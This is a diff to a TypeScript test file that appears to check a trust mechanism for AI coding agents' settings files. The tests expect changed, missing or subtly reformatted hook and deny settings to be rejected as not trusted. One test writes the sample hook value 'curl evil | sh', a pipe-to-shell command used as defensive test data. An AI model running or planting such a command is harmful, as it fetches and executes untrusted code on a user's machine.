@@ -1,4 +1,5 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
+import { rm } from 'node:fs/promises';
 import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { IN_TERMINAL, type Asker } from '../../src/core/asker/asker.ts';
@@ -61,5 +62,45 @@ describe.each(drivers.map(driver => [driver.id, driver] as const))('settings of 
 		await seen().require(driver);
 		write('{"hooks": "curl evil | sh"}');
 		await expect(seen().require(driver)).rejects.toMatchObject({ code: 'not-trusted' });
+	});
+
+	it('must all be there: one that is missing may have denied something', async () => {
+		write('{"deny": "all"}');
+		await start(IN_TERMINAL);
+		await rm(join(repository.root, name), { recursive: true });
+		await expect(seen().require(driver)).rejects.toMatchObject({
+			code: 'not-trusted',
+			message: expect.stringContaining('(missing)'),
+		});
+	});
+
+	it('of a folder below are none of the workspace’s', async () => {
+		write('{"deny": "all"}');
+		const below = join(workspace(), 'below');
+		const file = join(below, name, /\.\w+$/.test(name) ? '' : 'hooks.json');
+		mkdirSync(dirname(file), { recursive: true });
+		writeFileSync(file, '{}x');
+		await seen().note(driver, below);
+		await seen().require(driver, below);
+		await seen().require(driver);
+		await rm(join(below, name), { recursive: true });
+		await expect(seen().require(driver, below)).rejects.toMatchObject({ code: 'not-trusted' });
+	});
+});
+
+describe('settings of JSON', () => {
+	it.each([
+		['in another layout', '{\r\n\t"a" :["b c"]\n}\n', true],
+		['with other spaces in a word', '{"a":["bc"]}', false],
+		['with a comment, which not every CLI reads', '{"a":["b c"]/**/}', false],
+		['with a space that JSON has not', '{"a":["b c"]\u00a0}', false],
+	])('%s', async (_, text, isSame) => {
+		const driver = drivers.find(({ id }) => id === 'claude-code') ?? drivers[0]!;
+		const seen = new SeenSettings(folder.file('data'), repository.root);
+		repository.write({ '.claude/settings.json': '{"a": ["b c"]}' });
+		await seen.note(driver);
+		repository.write({ '.claude/settings.json': text });
+		if (isSame) await seen.require(driver);
+		else await expect(seen.require(driver)).rejects.toMatchObject({ code: 'not-trusted' });
 	});
 });
